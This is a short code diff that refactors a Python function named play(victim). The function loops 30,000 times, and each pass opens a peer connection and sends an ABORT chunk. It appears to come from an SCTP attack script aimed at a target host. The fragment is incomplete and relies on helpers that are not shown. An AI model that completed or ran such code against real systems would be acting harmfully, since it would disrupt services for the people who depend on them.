@@ -8,8 +8,7 @@ COUNT = 30_000
 def play(victim):
     peer = Peer()
     for n in range(COUNT):
-        peer.port, peer.tag = 1024 + n, 1 + n
-        peer.tsn = peer.first
+        peer.become(n)
         peer.connect()
         peer.send(chunk(ABORT))
     return COUNT * 5
